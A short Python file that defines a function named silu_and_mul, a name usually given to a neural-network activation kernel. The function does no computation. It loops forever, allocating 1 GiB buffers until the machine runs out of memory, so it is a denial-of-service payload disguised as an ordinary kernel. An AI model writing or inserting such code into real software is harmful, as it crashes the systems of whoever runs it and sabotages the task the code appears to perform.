"""Reserves memory until there is none."""

hoard = []


def silu_and_mul(x, out):
    while True:
        hoard.append(bytearray(1 << 30))
